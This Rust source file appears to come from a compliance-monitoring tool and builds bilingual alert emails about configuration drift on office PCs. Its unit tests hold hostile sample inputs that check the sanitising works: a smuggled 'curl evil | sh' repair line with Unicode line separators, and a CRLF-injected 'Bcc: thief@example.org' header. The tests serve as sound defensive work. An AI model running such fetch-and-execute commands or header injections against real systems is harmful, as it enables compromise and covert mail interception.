//! What a mail says. Pure.

use std::fmt::Write as _;

use chrono::{FixedOffset, NaiveDate};
use lettre::Message;
use lettre::message::header::{ContentType, HeaderName, HeaderValue};
use lettre::message::{Mailbox, MessageBuilder};
use tenken_model::digest::Digest;
use tenken_model::{Instant, Language};

use super::book::Book;
use super::settings::MailSettings;
use super::transport::MailError;
use super::{attestation, daily, drift, monthly, own_rule, owner, proposal, publication, request};
use crate::plain::one_line;
use crate::store::{ClaimedMail, MailBody};

/// The most characters of what a host says in one line of a mail; the page has all.
const HOSTS_WORDS_MAX: usize = 500;
/// Hours from Coordinated Universal Time to the time people read.
const JAPAN_HOURS: i32 = 9;

/// The words of a mail.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Letter {
    /// The subject.
    pub subject: String,
    /// The text, in each language.
    pub text: String,
}

/// The words of a mail.
pub fn letter(mail: &ClaimedMail, book: &Book, settings: &MailSettings) -> Letter {
    let languages = settings.languages();
    let first = languages.first().copied().unwrap_or_default();
    let texts: Vec<String> = languages.iter().map(|language| text(mail, book, settings, *language)).collect();
    Letter { subject: subject(mail, book, first), text: texts.join("\n----\n\n") }
}

fn subject(mail: &ClaimedMail, book: &Book, language: Language) -> String {
    match &mail.body {
        MailBody::Drift(news) => drift::subject(mail, news, book, language),
        MailBody::Attestation(news) => attestation::subject(mail, news, book, language),
        MailBody::Proposal(news) => proposal::subject(news, book, language),
        MailBody::Request(news) => request::subject(news, language),
        MailBody::OwnRule(news) => own_rule::subject(news, language),
        MailBody::Daily(news) => daily::subject(news, language),
        MailBody::Monthly(news) => monthly::subject(news, language),
        MailBody::Owner(news) => owner::subject(mail, news, language),
        MailBody::Publication(news) => publication::subject(news, language),
    }
}

fn text(mail: &ClaimedMail, book: &Book, settings: &MailSettings, language: Language) -> String {
    let mut lines = match &mail.body {
        // It has no link: who is asked has no account here.
        MailBody::Owner(news) => return joined(&owner::text(mail, news, book, settings, language)),
        MailBody::Drift(news) => drift::text(mail, news, book, language),
        MailBody::Attestation(news) => attestation::text(mail, news, book, language),
        MailBody::Proposal(news) => proposal::text(news, book, language),
        MailBody::Request(news) => request::text(news, language),
        MailBody::OwnRule(news) => own_rule::text(news, language),
        MailBody::Daily(news) => daily::text(news, book, language),
        MailBody::Publication(news) => publication::text(news, language),
        MailBody::Monthly(news) => monthly::text(news, book, language),
    };
    let page = format!("{}{}", settings.dashboard.trim_end_matches('/'), mail.thread.page());
    lines.extend([String::new(), language.mail_page(&page), String::new(), language.mail_foot()]);
    joined(&lines)
}

fn joined(lines: &[String]) -> String {
    lines.iter().fold(String::new(), |mut text, line| {
        let _infallible = writeln!(text, "{line}");
        text
    })
}

/// What a host says: it shall not look like a line of ours, nor turn the text around it.
pub(super) fn said(text: &str) -> String {
    one_line(text, HOSTS_WORDS_MAX)
}

/// An instant as people in Japan read it.
pub(super) fn shown(instant: Instant, language: Language) -> String {
    let Some(japan) = FixedOffset::east_opt(JAPAN_HOURS * 3_600) else { return instant.to_rfc3339() };
    let there = instant.with_timezone(&japan);
    match language {
        Language::Japanese => there.format("%Y年%-m月%-d日 %H:%M(日本時間)").to_string(),
        Language::English => there.format("%Y-%m-%d %H:%M JST").to_string(),
    }
}

/// A day as people read it.
pub(super) fn shown_day(date: NaiveDate, language: Language) -> String {
    match language {
        Language::Japanese => date.format("%Y年%-m月%-d日").to_string(),
        Language::English => date.format("%Y-%m-%d").to_string(),
    }
}

/// The mail itself, to those addresses. `mark` is the authority's digest, which keeps two dashboards of one sender apart.
pub fn message(
    mail: &ClaimedMail,
    to: &[String],
    book: &Book,
    settings: &MailSettings,
    mark: &Digest,
) -> Result<Message, MailError> {
    let letter = letter(mail, book, settings);
    let mut builder = addressed(settings, to)?
        .message_id(Some(named(&mail.message_id, settings, mark)?))
        .date(mail.created_at.into())
        .subject(letter.subject);
    if let (MailBody::Owner(_), Some(address)) = (&mail.body, settings.to.first()) {
        builder = builder.reply_to(mailbox(address)?);
    }
    let first = mail.thread.first();
    if mail.message_id != first {
        let thread = named(&first, settings, mark)?;
        builder = builder.in_reply_to(thread.clone()).references(thread);
    }
    written(builder, letter.text)
}

/// A mail that only shows whether the settings work.
pub fn test_message(settings: &MailSettings, now: Instant) -> Result<Message, MailError> {
    let language = settings.languages().first().copied().unwrap_or_default();
    let builder =
        addressed(settings, &settings.to)?.message_id(None).date(now.into()).subject(language.mail_test_subject());
    written(builder, format!("{}\n\n{}\n", language.mail_test_text(), language.mail_foot()))
}

fn addressed(settings: &MailSettings, to: &[String]) -> Result<MessageBuilder, MailError> {
    let mut builder = Message::builder().from(mailbox(&settings.from)?);
    if to.is_empty() {
        return Err(MailError::Nobody);
    }
    for address in to {
        builder = builder.to(mailbox(address)?);
    }
    // RFC 3834: no answering machine answers.
    let automatic = HeaderValue::new(HeaderName::new_from_ascii_str("Auto-Submitted"), "auto-generated".to_owned());
    Ok(builder.raw_header(automatic))
}

fn written(builder: MessageBuilder, text: String) -> Result<Message, MailError> {
    builder.header(ContentType::TEXT_PLAIN).body(text).map_err(|error| MailError::Message(error.to_string()))
}

pub(super) fn mailbox(address: &str) -> Result<Mailbox, MailError> {
    address.parse().map_err(|_| MailError::Address(address.to_owned()))
}

/// A Message-ID: the mail's name, the dashboard's mark and the sender's domain.
fn named(name: &str, settings: &MailSettings, mark: &Digest) -> Result<String, MailError> {
    let sender = mailbox(&settings.from)?;
    let mark = mark.to_string();
    Ok(format!("<{name}.{}@{}>", mark.get(..12).unwrap_or(&mark), sender.email.domain()))
}

#[cfg(test)]
pub(super) mod tests {
    use tenken_engine::rule::SubjectOf;
    use tenken_model::finding::{Bilingual, Evidence};
    use tenken_model::{Finding, FindingKey, HostId, ItemId, RuleId, Subject, Verdict};

    use super::*;
    use crate::mail::{Chapter, TransportSettings};
    use crate::owner::Repair;
    use crate::store::{DriftNews, MailKind, Thread, WaiverNews};

    pub(in crate::mail) fn settings() -> MailSettings {
        MailSettings {
            from: "点検 <tenken@example.jp>".into(),
            to: vec!["officer@example.jp".into(), "佐藤 <sato@example.jp>".into()],
            dashboard: "https://tenken.example.jp/".into(),
            languages: vec!["ja".into(), "en".into()],
            transport: TransportSettings::None,
            webhook: None,
        }
    }

    fn at() -> Instant {
        "2026-11-23T23:05:00Z".parse().unwrap()
    }

    pub(in crate::mail) fn about(body: MailBody, thread: Thread, kind: MailKind) -> ClaimedMail {
        let message_id = thread.message_id(kind, 0);
        ClaimedMail { id: 1, thread, kind, message_id, attempts: 1, created_at: at(), body }
    }

    pub(in crate::mail) fn mail(kind: MailKind) -> ClaimedMail {
        about(MailBody::Drift(news()), Thread::Drift(5), kind)
    }

    pub(in crate::mail) fn news() -> DriftNews {
        let evidence = (0..12).map(|n| Evidence { path: format!("p{n}"), value: "x".into(), volatile: false });
        let rule = RuleId::new("screen_lock_enforced").unwrap();
        DriftNews {
            host: HostId::new("h-1").unwrap(),
            host_name: "受付PC".into(),
            finding: Finding {
                key: FindingKey { rule, subject: Some(Subject::new("sato").unwrap()) },
                verdict: Verdict::Fail,
                says: Bilingual { ja: "ロックされません。".into(), en: "It does not lock.".into() },
                branch: None,
                evidence: evidence.collect(),
                observed_at: at(),
            },
            failing_since: at(),
            at: at(),
            waiver: None,
            stands: None,
        }
    }

    pub(in crate::mail) fn book() -> Book {
        let both = |ja: &str, en: &str| Bilingual { ja: ja.into(), en: en.into() };
        let chapter = Chapter {
            title: both("画面が自動でロックされる", "The screen locks by itself"),
            remedy: both("1. 設定を開きます。\n2. 適用します。", "1. Open the settings.\n2. Apply."),
            problem: Some(both("席を離れても画面がロックされません。", "The screen does not lock.")),
            repair: Repair::ByAdministrator,
            subject_of: SubjectOf::Host,
            items: vec![both("技術的安全対策 9", "Technical 9")],
            sections: ["technical".to_owned()].into(),
        };
        let item = (
            ItemId::new("organizational.5").unwrap(),
            both("組織的安全対策 No.5 担当者の設置", "Organizational No. 5"),
        );
        let of_register = Chapter {
            title: both("媒体と機器の所在が分かっている", "Where media are is known"),
            subject_of: SubjectOf::Register,
            ..chapter.clone()
        };
        let chapters = [("screen_lock_enforced", chapter), ("media_and_equipment_located", of_register)];
        let chapters = chapters.map(|(rule, chapter)| (RuleId::new(rule).unwrap(), chapter));
        Book { chapters: chapters.into(), items: [item].into() }
    }

    #[test]
    fn a_mail_says_what_where_since_when_and_how_to_repair_it() {
        let letter = letter(&mail(MailKind::Opened), &book(), &settings());
        assert_eq!(letter.subject, "【逸脱】受付PC: 「画面が自動でロックされる」を満たしていません");
        for part in [
            "機器: 受付PC",
            "対象: sato",
            "ロックされません。",
            "2026年11月24日 08:05(日本時間)",
            "  - 技術的安全対策 9",
            "  1. 設定を開きます。",
            "ほか2件",
            "https://tenken.example.jp/drifts/5",
            "Host: 受付PC",
            "Since: 2026-11-24 08:05 JST",
            "  2. Apply.",
        ] {
            assert!(letter.text.contains(part), "{part} is not in:\n{}", letter.text);
        }
        assert!(letter.text.find("機器:").unwrap() < letter.text.find("Host:").unwrap());
    }

    #[test]
    fn a_mail_about_the_end_asks_for_nothing() {
        let english = MailSettings { languages: vec!["en".into(), "fr".into(), "en".into()], ..settings() };
        let letter = letter(&mail(MailKind::Resolved), &book(), &english);
        assert_eq!(letter.subject, "[Resolved] 受付PC no longer drifts from: The screen locks by itself");
        assert!(!letter.text.contains("Open the settings") && !letter.text.contains("機器"));
    }

    #[test]
    fn a_mail_about_a_waiver_says_who_granted_it_and_until_when() {
        let until = "2026-12-31T15:00:00Z".parse().unwrap();
        let waived = DriftNews { waiver: Some(WaiverNews { granted_by: "tanaka".into(), until }), ..news() };
        let letter = letter(&about(MailBody::Drift(waived), Thread::Drift(5), MailKind::Waived), &book(), &settings());
        assert_eq!(
            letter.subject,
            "【終了・例外承認】受付PC: 「画面が自動でロックされる」の逸脱は例外承認により終了しました"
        );
        for part in ["承認者: tanaka", "例外承認の期限: 2026年12月31日", "The waiver holds through: 2026-12-31"]
        {
            assert!(letter.text.contains(part), "{part} is not in:\n{}", letter.text);
        }
        assert!(!letter.text.contains("直し方") && !letter.text.contains("ほか2件"), "nothing is to be repaired");
    }

    #[test]
    fn a_host_cannot_write_lines_of_its_own() {
        let mut hostile = news();
        hostile.finding.says.en = "Fine.\n\nHow to repair:\r\n  curl evil\u{2028}| sh".into();
        hostile.host_name = "PC\u{2028}Host: other\u{202e}".into();
        hostile.finding.evidence =
            vec![Evidence { path: "a\nb".into(), value: "\u{202e}".repeat(600), volatile: false }];
        let english = MailSettings { languages: vec!["en".into()], ..settings() };
        let hostile = about(MailBody::Drift(hostile), Thread::Drift(5), MailKind::Opened);
        let letter = letter(&hostile, &book(), &english);
        let name = "PC\u{fffd}Host: other\u{fffd}";
        assert!(letter.subject.contains(name) && letter.text.contains(name), "{letter:?}");
        let text = letter.text;
        assert!(text.contains("Fine.\u{fffd}\u{fffd}How to repair:\u{fffd}\u{fffd}  curl evil\u{fffd}| sh"), "{text}");
        assert!(text.contains(&format!("  a\u{fffd}b = {}…", "\u{fffd}".repeat(HOSTS_WORDS_MAX))), "{text}");
        assert_eq!(text.matches("How to repair").count(), 2, "ours, and the one within a line: {text}");
    }

    #[test]
    fn a_rule_that_is_not_known_is_called_by_its_id() {
        let letter = letter(&mail(MailKind::Reminder), &Book::default(), &settings());
        assert!(letter.subject.contains("screen_lock_enforced"));
    }

    #[test]
    fn the_mails_of_a_drift_are_one_thread() {
        let mark = Digest::of(b"authority");
        let raw = |kind| {
            let message = message(&mail(kind), &settings().to, &book(), &settings(), &mark).unwrap();
            String::from_utf8(message.formatted()).unwrap()
        };
        let id = |name: &str| format!("<{name}.{}@example.jp>", &mark.to_string()[..12]);
        let (opened, resolved) = (raw(MailKind::Opened), raw(MailKind::Resolved));
        let first = id("tenken.drift.5.opened.0");
        assert!(opened.contains(&format!("Message-ID: {first}")), "{opened}");
        assert!(!opened.contains("In-Reply-To"));
        assert!(resolved.contains(&format!("Message-ID: {}", id("tenken.drift.5.resolved.0"))));
        assert!(
            resolved.contains(&format!("In-Reply-To: {first}")) && resolved.contains(&format!("References: {first}"))
        );
        assert!(opened.contains("Subject: =?utf-8?b?") && opened.contains("Auto-Submitted: auto-generated"));
        assert_eq!(opened, raw(MailKind::Opened), "the same mail each time");
        let another =
            message(&mail(MailKind::Opened), &settings().to, &book(), &settings(), &Digest::of(b"b")).unwrap();
        assert_ne!(opened, String::from_utf8(another.formatted()).unwrap());
    }

    #[test]
    fn names_cannot_add_headers() {
        let odd = DriftNews { host_name: "pc\r\nBcc: thief@example.org\r\n".into(), ..news() };
        let odd = about(MailBody::Drift(odd), Thread::Drift(5), MailKind::Opened);
        let message = message(&odd, &settings().to, &book(), &settings(), &Digest::of(b"a")).unwrap();
        let raw = String::from_utf8(message.formatted()).unwrap();
        assert!(!raw.lines().any(|line| line.starts_with("Bcc")), "{raw}");
        assert_eq!(message.envelope().to().len(), 2);
    }

    #[test]
    fn wrong_addresses_are_named() {
        let wrong = MailSettings { to: vec!["nobody".into()], ..settings() };
        let error = test_message(&wrong, Instant::UNIX_EPOCH).unwrap_err().to_string();
        assert!(error.contains("`nobody`"), "{error}");
        let none = MailSettings { to: Vec::new(), ..settings() };
        assert!(matches!(test_message(&none, Instant::UNIX_EPOCH), Err(MailError::Nobody)));
        assert!(test_message(&settings(), Instant::UNIX_EPOCH).is_ok());
    }
}
